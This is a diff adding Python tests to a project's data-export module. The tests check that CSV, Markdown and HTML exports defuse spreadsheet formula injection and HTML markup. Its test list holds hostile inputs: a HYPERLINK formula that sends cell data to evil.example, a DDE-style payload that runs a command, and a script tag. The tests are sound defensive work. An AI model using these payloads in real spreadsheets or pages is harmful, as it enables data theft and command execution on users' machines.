@@ -275,3 +275,65 @@ def test_a_truncated_demo_gguf_says_how_to_get_it_whole(tmp_path, monkeypatch):
         ConfigError, match=rf"{demo.DEMO_GGUF} is incomplete: .* Delete {extracted} and run again"
     ):
         demo.prepare_demo()
+
+
+# ---- 4. formulas and markup in exports ------------------------------------------------------------------
+
+_NOTES = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\tpadded",
+    "\rreturn",
+    "-1.5",
+    "plain note",
+    "<script>alert(1)</script> & <b>bold</b>",
+]
+
+
+def _frame():
+    import pandas as pd
+
+    return pd.DataFrame(
+        {
+            "run_id": range(1, len(_NOTES) + 1),
+            "notes": _NOTES,
+            "metric_kl_mean": [-0.25, *[0.001 * i for i in range(1, len(_NOTES))]],
+        }
+    )
+
+
+def test_csv_text_cells_cannot_run_as_spreadsheet_formulas_and_numbers_stay_numbers(tmp_path):
+    import csv
+    import io
+
+    from workbench.export import export_frame
+
+    text = export_frame(_frame(), "csv", tmp_path / "runs.csv")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    notes = [r["notes"] for r in rows]
+    for note, original in zip(notes, _NOTES, strict=True):
+        if original[0] in "=+-@\t\r" and original != "-1.5":
+            # A bare carriage return would end the row for a reader: it is written as a newline (quoted).
+            assert note == "'" + original.replace("\r", "\n"), note
+        else:
+            assert note == original
+    assert rows[0]["metric_kl_mean"] == "-0.25" and float(rows[0]["metric_kl_mean"]) == -0.25
+    assert rows[0]["run_id"] == "1"
+    assert (tmp_path / "runs.csv").read_text() == text
+
+
+def test_markdown_and_html_exports_show_markup_as_text():
+    from workbench.export import export_frame
+    from workbench.tables import comparison_table, export_table
+
+    for fmt in ("md", "html"):
+        text = export_frame(_frame(), fmt)
+        assert "<script>" not in text and "<b>" not in text, fmt
+        assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;b&gt;bold&lt;/b&gt;" in text, fmt
+    # The report table (the Compare panel's, `workbench runs --format md`) goes through the same export.
+    runs = _frame().assign(status="done", technique="rtn", model="m", pipeline="rtn 4b", suite="quick")
+    table = comparison_table(runs, columns=["run_id", "notes"])
+    assert "&lt;script&gt;" in export_table(table, "md") and "<script>" not in export_table(table, "md")
+    assert "'=HYPERLINK(" in export_table(table, "csv")
